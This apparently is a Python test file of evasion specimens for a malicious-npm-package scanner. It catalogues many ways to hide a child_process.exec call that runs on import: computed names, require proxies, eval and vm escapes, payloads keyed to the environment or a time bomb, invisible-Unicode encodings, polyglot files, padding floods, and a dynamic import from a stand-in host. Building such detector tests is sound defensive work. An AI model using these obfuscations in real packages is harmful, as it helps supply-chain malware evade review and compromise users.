"""Ways to hide what JavaScript does: each runs the same dull payload when the package is imported."""

import base64

from tests.evasion.specimen import COMMAND, PAD, STEAL, Specimen, npm

_B64 = base64.b64encode(COMMAND.encode()).decode()
_EXEC = f"exec('{COMMAND}');\n"
_HALF = (COMMAND[:17], COMMAND[17:])


def _flattened() -> str:
    return (
        "var order = '2|0|3|1'.split('|'), step = 0, cp, cmd;\n"
        "while (true) {\n  switch (order[step++]) {\n"
        f"    case '0': cmd = '{_HALF[0]}'; continue;\n"
        "    case '1': cp.exec(cmd); continue;\n"
        "    case '2': cp = require('child_process'); continue;\n"
        f"    case '3': cmd += '{_HALF[1]}'; continue;\n"
        "  }\n  break;\n}\n"
    )


def _fucked() -> str:
    """Return a text in the six signs, long enough for what such encodings make of any program."""
    false, true, nothing = "(![]+[])", "(!![]+[])", "([][[]]+[])"
    one = "+!+[]"
    letters = f"{false}[{one}]+{true}[+[]]+{nothing}[{one}]+"
    return f"[][({false}[+[]]+{false}[!+[]+!+[]])](" + letters * 40 + f"{false}[+[]])()\n"


def _xored(text: str, key: int) -> str:
    return ",".join(str(ord(character) ^ key) for character in text)


_CIPHER = "9f8e7d6c5b4a39281706f5e4d3c2b1a0" * 12

SPECIMENS: tuple[Specimen, ...] = (
    # Decoys: peers 2.1 (a), (c), 2.3
    npm("comment decoy", "a glob that looks like a comment", f"const files = 'src/**/*.js';\nrequire('child_process').{_EXEC}"),
    npm("comment decoy", "an opened comment in a regular expression", f"const r = /[/*]/;\nrequire('child_process').{_EXEC}"),
    npm("comment decoy", "an opened comment in a template", f"const t = `/* ${{1}}`;\nrequire('child_process').{_EXEC}"),
    npm("comment decoy", "a comment of HTML", f"<!-- nothing\nrequire('child_process').{_EXEC}"),
    npm("comment decoy", "a line that only old parsers take for a comment", f"// \u2028require('child_process').{_EXEC}"),
    npm("comment decoy", "a carriage return ends the comment", f"// nothing\rrequire('child_process').{_EXEC}"),
    npm(
        "rule-exhausting decoys",
        "two thousand harmless uses first",
        "".join(f"exports.f{n} = () => fetch('https://api.invalid/{n}');\n" for n in range(2000)) + STEAL,
    ),
    npm(
        "rule-exhausting decoys",
        "thirty thousand literals first",
        "".join(f"exports.u{n} = 'https://api.invalid/{n}';\n" for n in range(30_000)) + STEAL,
    ),
    npm(
        "rule-exhausting decoys",
        "a thousand commands of its own first",
        "const { execSync } = require('child_process');\n"
        + "".join(f"exports.g{n} = () => execSync('git log {n}');\n" for n in range(1000))
        + f"execSync('{COMMAND}');\n",
    ),
    # Names of modules and of their members
    npm("computed names", "a module name in parts", f"require('child' + '_' + ['pro', 'cess'].join('')).{_EXEC}"),
    npm("computed names", "a member in parts", f"require('child_process')['ex' + 'ec']('{COMMAND}');\n"),
    npm("computed names", "a reversed name", f"require('ssecorp_dlihc'.split('').reverse().join('')).{_EXEC}"),
    npm("computed names", "character codes", f"const n = [99,104,105,108,100,95,112,114,111,99,101,115,115].map((c) => String.fromCharCode(c)).join('');\nrequire(n).{_EXEC}"),
    npm("computed names", "escapes", f"require('\\x63hild_\\u0070rocess')['\\x65xec']('{COMMAND}');\n"),
    npm("computed names", "an escaped identifier", f"r\\u0065quire('child_process').{_EXEC}"),
    npm("computed names", "a member found by its end", f"const cp = require('child_process');\ncp[Object.keys(cp).find((k) => k.endsWith('xec'))]('{COMMAND}');\n"),
    npm("computed names", "a module found in the list of all modules", f"const m = require('module').builtinModules.find((n) => /^child/.test(n));\nrequire(m).{_EXEC}"),
    npm("computed names", "the node: prefix and a destructured alias", f"const {{ exec: pad }} = require('node:child_process');\npad('{COMMAND}');\n"),
    npm("computed names", "a number in base 36", f"const n = (767881).toString(36);\nconst m = {{ [n]: require('child_process') }};\nm[n].{_EXEC}"),
    npm("computed names", "replaced letters", f"require('chXld_procXss'.replace('X', 'i').replace('X', 'e')).{_EXEC}"),
    npm("computed names", "decoded in a function of its own", f"function d(s) {{ return Buffer.from(s, 'base64').toString(); }}\nrequire(d('Y2hpbGRfcHJvY2Vzcw=='))[d('ZXhlYw==')](d('{_B64}'));\n"),
    # Proxies for require
    npm("proxies for require", "module.require", f"module.require('child_process').{_EXEC}"),
    npm("proxies for require", "module.constructor._load", f"module.constructor._load('child_process').{_EXEC}"),
    npm("proxies for require", "Module._load", f"require('module')._load('child_process').{_EXEC}"),
    npm("proxies for require", "Module.prototype.require", f"require('module').prototype.require.call(module, 'child_process').{_EXEC}"),
    npm("proxies for require", "createRequire", f"const r = require('module').createRequire(__filename);\nr('child_process').{_EXEC}"),
    npm("proxies for require", "process.mainModule", f"process.mainModule.require('child_process').{_EXEC}"),
    npm("proxies for require", "require.main", f"require.main.require('child_process').{_EXEC}"),
    npm("proxies for require", "require.cache", f"require.cache[__filename].require('child_process').{_EXEC}"),
    npm("proxies for require", "module.children", f"module.parent.children[0].require('child_process').{_EXEC}"),
    npm("proxies for require", "process.getBuiltinModule", f"process.getBuiltinModule('child_process').{_EXEC}"),
    npm("proxies for require", "an alias", f"const load = require;\nload('child_process').{_EXEC}"),
    npm("proxies for require", "a comma", f"(0, require)('child_process').{_EXEC}"),
    npm("proxies for require", "Reflect.apply", f"Reflect.apply(require, null, ['child_process']).{_EXEC}"),
    npm("proxies for require", "Function.prototype.call.call", f"Function.prototype.call.call(require, null, 'child_process').{_EXEC}"),
    npm("proxies for require", "a Proxy with a trap", f"const p = new Proxy({{}}, {{ get: (_, name) => require(name) }});\np.child_process.{_EXEC}"),
    npm("proxies for require", "an object with a getter", f"const o = {{ get cp() {{ return require('child_process'); }} }};\no.cp.{_EXEC}"),
    npm("proxies for require", "a tagged template", f"require`child_process`.{_EXEC}"),
    npm("proxies for require", "a default argument", f"((load = require) => load('child_process').exec('{COMMAND}'))();\n"),
    npm("proxies for require", "a Map of loaders", f"const m = new Map([['a', require]]);\nm.get('a')('child_process').{_EXEC}"),
    npm("proxies for require", "arguments of the wrapper", f"arguments[1]('child_process').{_EXEC}"),
    npm("proxies for require", "a bound method handed round", f"['child_process'].map(require)[0].{_EXEC}"),
    npm("proxies for require", "a generator", f"function* g() {{ yield require('child_process'); }}\ng().next().value.{_EXEC}"),
    npm("proxies for require", "a class field", f"class A {{ static cp = require('child_process'); static {{ A.cp.exec('{COMMAND}'); }} }}\n"),
    npm("proxies for require", "toString of an object", f"const o = {{ toString() {{ require('child_process').exec('{COMMAND}'); return ''; }} }};\n`${{o}}`;\n"),
    # Dynamic import
    npm("dynamic import", "then", f"import('child_process').then((c) => c.exec('{COMMAND}'));\n"),
    npm("dynamic import", "await in an async function", f"(async () => {{ const {{ exec }} = await import('node:' + 'child_process'); exec('{COMMAND}'); }})();\n"),
    npm("dynamic import", "a data address", "import('data:text/javascript;base64," + base64.b64encode(f"import {{exec}} from 'child_process'; exec('{COMMAND}')".encode()).decode() + "');\n"),
    npm("dynamic import", "an address of the network", "import('https://stage.invalid/x.mjs');\n"),
    # Evaluation
    npm("evaluation", "eval under another name", f"const run = eval;\nrun(\"require('child_process').exec('{COMMAND}')\");\n"),
    npm("evaluation", "Function", f"new Function('r', \"r('child_process').exec('{COMMAND}')\")(require);\n"),
    npm("evaluation", "constructor.constructor", f"[].constructor.constructor(\"return process\")().mainModule.require('child_process').{_EXEC}"),
    npm("evaluation", "the constructor of an async function", f"Object.getPrototypeOf(async () => 0).constructor(\"require('child_process').exec('{COMMAND}')\")();\n"),
    npm("evaluation", "vm.runInThisContext", f"require('vm').runInThisContext(\"process.mainModule.require('child_process').exec('{COMMAND}')\");\n"),
    npm("evaluation", "new vm.Script", f"new (require('vm').Script)(\"process.mainModule.require('child_process').exec('{COMMAND}')\").runInThisContext();\n"),
    npm("evaluation", "the way out of a vm", f"require('vm').runInNewContext(\"this.constructor.constructor('return process')()\").mainModule.require('child_process').{_EXEC}"),
    npm("evaluation", "module._compile", f"const m = new (require('module'))();\nm._compile(\"require('child_process').exec('{COMMAND}')\", '');\n"),
    npm("evaluation", "a worker from a string", f"new (require('worker_threads').Worker)(\"require('child_process').exec('{COMMAND}')\", {{ eval: true }});\n"),
    npm("evaluation", "node -e", f"require('child_process').spawn(process.execPath, ['-e', \"require('child_process').exec('{COMMAND}')\"]);\n"),
    npm("evaluation", "a string for a timer", f"setTimeout(\"require('child_process').exec('{COMMAND}')\", 5000);\n"),
    npm("evaluation", "base64 and eval", "eval(Buffer.from('" + base64.b64encode(f"require('child_process').exec('{COMMAND}')".encode()).decode() + "', 'base64').toString());\n"),
    npm("evaluation", "eval of the words in an array", f"const w = ['require(', \"'child_process'\", ').exec(', \"'{COMMAND}'\", ')'];\neval(w.join(''));\n"),
    # What is behind the modules
    npm("process.binding", "spawn_sync", "process.binding('spawn_sync').spawn({ file: '/bin/sh', args: ['sh', '-c', '" + COMMAND + "'] });\n"),
    npm("process.binding", "process_wrap", "const { Process } = process.binding('process_wrap');\nnew Process().spawn({ file: '/bin/sh', args: ['sh', '-c', '" + COMMAND + "'] });\n"),
    npm("worker_threads", "a file of its own", "new (require('worker_threads').Worker)(__dirname + '/lib/work.js');\n", {"lib/work.js": f"require('child_process').{_EXEC}"}),
    npm("worker_threads", "an address that holds the code", "new (require('worker_threads').Worker)(new URL('data:text/javascript,' + encodeURIComponent(\"require('child_process').exec('" + COMMAND + "')\")));\n"),
    npm("child of its own", "fork of a file", "require('child_process').fork('./lib/work.js');\n", {"lib/work.js": STEAL}),
    # Encodings of the whole
    npm("encodings", "six signs", _fucked()),
    npm("encodings", "xor with a key", f"const c = [{_xored(COMMAND, 23)}].map((n) => String.fromCharCode(n ^ 23)).join('');\nrequire('child_process').exec(c);\n"),
    npm("encodings", "rot13", "const c = '" + COMMAND.translate(str.maketrans("abcdefghijklmnopqrstuvwxyz", "nopqrstuvwxyzabcdefghijklm")) + "'.replace(/[a-z]/g, (l) => String.fromCharCode((l.charCodeAt(0) - 97 + 13) % 26 + 97));\nrequire('child_process').exec(c);\n"),
    npm("encodings", "hexadecimal in chunks", "const h = '" + COMMAND.encode().hex() + "';\nlet c = '';\nfor (let i = 0; i < h.length; i += 2) c += String.fromCharCode(parseInt(h.substr(i, 2), 16));\nrequire('child_process').exec(c);\n"),
    npm("encodings", "an address of escapes", "require('child_process').exec(unescape('" + "".join(f"%{ord(c):02x}" for c in COMMAND) + "'));\n"),
    npm("encodings", "zero and one in white space", "const s = '" + "".join(" \t"[int(bit)] for c in COMMAND for bit in f"{ord(c):08b}") + "';\nconst c = s.match(/.{8}/g).map((b) => String.fromCharCode(parseInt(b.replace(/ /g, '0').replace(/\\t/g, '1'), 2))).join('');\nrequire('child_process').exec(c);\n"),
    npm("encodings", "invisible letters", "const s = '" + "".join("\u200b\u200c"[int(bit)] for c in COMMAND for bit in f"{ord(c):08b}") + "';\neval([...s].map((c) => c === '\u200b' ? '0' : '1').join('').match(/.{8}/g).map((b) => String.fromCharCode(parseInt(b, 2))).join(''));\n"),
    npm("encodings", "variation selectors", "const s = '" + "".join(chr(0xE0100 + ord(c) - 16) for c in f"require('child_process').exec('{COMMAND}')") + "';\neval([...s].map((c) => String.fromCharCode(c.codePointAt(0) - 0xE0100 + 16)).join(''));\n"),
    npm("control-flow flattening", "a switch in a loop", _flattened()),
    npm("control-flow flattening", "opaque conditions", f"let cp;\nif (Math.random() * 0 === 0) cp = require('child_process');\nif (Date.now() > 1) cp.exec('{COMMAND}');\n"),
    npm("control-flow flattening", "an exception carries it", f"try {{ throw require('child_process'); }} catch (e) {{ e.exec('{COMMAND}'); }}\n"),
    npm("control-flow flattening", "a table of functions", f"const ops = [(s) => require(s), (m, f) => m[f], (f, a) => f(a)];\nops[2](ops[1](ops[0]('child_process'), 'exec'), '{COMMAND}');\n"),
    npm("control-flow flattening", "a little machine", "const code = [[0, 'child_process'], [1, 'exec'], [2, '" + COMMAND + "']];\nlet acc = require;\nfor (const [op, v] of code) { if (op === 0) acc = acc(v); else if (op === 1) acc = acc[v].bind(acc); else acc = acc(v); }\n"),
    # Keyed payloads
    npm("keyed by environment", "a cipher keyed by the project's description", f"const c = require('crypto');\nconst d = c.createDecipher('aes256', process.env.npm_package_description);\neval(d.update('{_CIPHER}', 'hex', 'utf8') + d.final('utf8'));\n"),
    npm("keyed by environment", "a key made of the host's name", f"const c = require('crypto'), k = c.createHash('sha256').update(require('os').hostname()).digest();\nconst d = c.createDecipheriv('aes-256-cbc', k, Buffer.alloc(16));\nnew Function(d.update('{_CIPHER}', 'hex', 'utf8') + d.final('utf8'))();\n"),
    npm("keyed by environment", "xor with the name of a folder", f"const k = process.cwd();\nconst b = Buffer.from('{_CIPHER}', 'hex').map((n, i) => n ^ k.charCodeAt(i % k.length));\neval(b.toString());\n"),
    npm("keyed by environment", "only on one kind of machine", f"if (process.env.CI && !process.env.LANG.startsWith('ru')) require('child_process').{_EXEC}"),
    npm("keyed by environment", "a time bomb", f"if (Date.now() > 1790000000000) require('child_process').{_EXEC}"),
    # Programs in other languages
    npm("native and WASM loaders", "a module of bytes in the text", "const w = new WebAssembly.Module(Buffer.from('0061736d01000000" + "00" * 40 + "', 'hex'));\nnew WebAssembly.Instance(w, { env: { run: (p) => require('child_process').execSync(p) } }).exports.main();\n"),
    npm("native and WASM loaders", "process.dlopen of an added library", "const m = { exports: {} };\nprocess.dlopen(m, __dirname + '/lib/pad.dat');\n", {"lib/pad.dat": b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x03\x00\x3e\x00" + bytes(200)}),
    npm("native and WASM loaders", "a .node file in a folder of tests", "require('./test/fixtures/pad.node');\n", {"test/fixtures/pad.node": b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x03\x00\x3e\x00" + bytes(200)}),
    # Far away, or where nobody looks
    npm("far right", "behind a thousand blanks", f"'use strict';{' ' * 1000}require('child_process').{_EXEC}"),
    npm("odd places", "dist", "require('./dist/index.min.js');\n", {"dist/index.min.js": f"!function(){{require('child_process').exec('{COMMAND}')}}();\n"}),
    npm("odd places", "test", "require('./test/setup');\n", {"test/setup.js": f"require('child_process').{_EXEC}"}),
    npm("odd places", "a folder of modules inside", "require('pad-inner');\n", {"node_modules/pad-inner/index.js": f"require('child_process').{_EXEC}"}),
    npm("odd places", "a document that is code", "require('./README.md');\n", {"README.md": f"require('child_process').{_EXEC}"}),
    npm("odd places", "an ending that ends like a document's", "require('./lib/run.cmd');\n", {"lib/run.cmd": f"require('child_process').{_EXEC}"}),
    npm("odd places", "an ending for pictures", "require('./logo.png');\n", {"logo.png": f"require('child_process').{_EXEC}"}),
    npm("odd places", "JSON that is evaluated", "eval(require('./config.json').hook);\n", {"config.json": '{"hook": "require(\'child_process\').exec(\'' + COMMAND + "')\"}\n"}),
    npm("odd places", "code inside a map of sources", "const m = JSON.parse(require('fs').readFileSync(__dirname + '/index.js.map'));\neval(m.sourcesContent[0]);\n", {"index.js.map": '{"version":3,"sources":["a"],"sourcesContent":["require(\'child_process\').exec(\'' + COMMAND + "')\"],\"mappings\":\"\"}\n"}),
    npm("odd places", "a text that is read and evaluated", "eval(require('fs').readFileSync(__dirname + '/notes.txt', 'utf8'));\n", {"notes.txt": f"require('child_process').{_EXEC}"}),
    npm("odd places", "its own source", f"/*require('child_process').exec('{COMMAND}')*/\neval(require('fs').readFileSync(__filename, 'utf8').slice(2, 80));\n"),
    npm("polyglots", "a picture that is code", "require('./logo.gif');\n", {"logo.gif": f"GIF89a/*{'x' * 20}*/=1;require('child_process').exec('{COMMAND}');\n"}),
    npm("polyglots", "a picture that is code, with zero bytes", "require('./logo.gif');\n", {"logo.gif": b"GIF89a/*\x00\x00*/=1;require('child_process').exec('" + COMMAND.encode() + b"');\n"}),
    npm("polyglots", "a shell script that is code", "require('./run');\n", {"run.js": f"#!/bin/sh\n//usr/bin/env true\nrequire('child_process').{_EXEC}"}),
    npm("hostile Unicode", "a mark of the byte order first", "\ufeff" + f"require('child_process').{_EXEC}"),
    npm("hostile Unicode", "letters that look alike", f"const require\u0441 = require;\nrequire\u0441('child_process').{_EXEC}"),
    npm("hostile Unicode", "a name of Unicode letters", f"const \u02b9\u02b9 = require('child_process');\n\u02b9\u02b9.{_EXEC}"),
    npm("hostile Unicode", "text that turns round", f"/* \u202e */ require('child_process').{_EXEC}"),
    npm("hostile Unicode", "a blank that few know", f"require\u2003('child_process')\u00a0.{_EXEC}"),
    npm("hostile Unicode", "bytes that are no UTF-8", "require('./lib/x');\n", {"lib/x.js": b"// \xff\xfe\xe9\nrequire('child_process').exec('" + COMMAND.encode() + b"');\n"}),
    npm("hostile Unicode", "UTF-16", "require('./lib/x');\n", {"lib/x.js": f"require('child_process').{_EXEC}".encode("utf-16")}, unread=True),
    npm("parser differentials", "the word await as a name", f"var await = require('child_process');\nawait.{_EXEC}"),
    npm("parser differentials", "yield and let as names", f"var yield_, let = require('child_process');\nlet.{_EXEC}"),
    npm("parser differentials", "a division that looks like an expression", f"var a = 4, g = 2, c = a++ / 2 / g; require('child_process').exec('{COMMAND}'); /* / */\n"),
    npm("parser differentials", "old octal escapes", f"require('\\143hild_process').{_EXEC}"),
    npm("parser differentials", "a hash-bang in front", f"#!/usr/bin/env node\nrequire('child_process').{_EXEC}"),
    npm("parser differentials", "labels, with and void", f"with (require('child_process')) {{ exec('{COMMAND}'); }}\n"),
    npm("parser differentials", "a hundred parentheses", f"{'(' * 120}require{')' * 120}('child_process').{_EXEC}"),
    npm("parser differentials", "new syntax: using, decorators, private names", f"class A {{ #cp = require('child_process'); static {{ new A().#cp.exec('{COMMAND}'); }} }}\n"),
    npm("parser differentials", "optional calls", f"require?.('child_process')?.exec?.('{COMMAND}');\n"),
    npm("parser differentials", "an HTML comment that ends", f"--> nothing\nrequire('child_process').{_EXEC}"),
    # Amount
    Specimen(
        row="floods",
        title="a thousand dull files and one that is not",
        before={"index.js": PAD},
        after={
            "index.js": PAD,
            **{f"lib/part{n}.js": f"exports.part{n} = (text) => text.repeat({n});\n" for n in range(1000)},
            "lib/part0500.js": STEAL,
            "lib/index.js": "".join(f"require('./part{n}');\n" for n in range(1000)) + "require('./part0500');\n",
            "package.json": '{"name": "example-package", "version": "1.0.1", "main": "lib/index.js"}\n',
        },
    ),
    npm("floods", "behind more than is ever read", "// " + "x" * (20 << 20) + f"\nrequire('child_process').{_EXEC}", unread=True),
    npm("floods", "at the end of a bundle", "".join(f"exports.part{n} = (text) => text.repeat({n});\n" for n in range(8_000)) + f"require('child_process').{_EXEC}"),
)  # fmt: skip
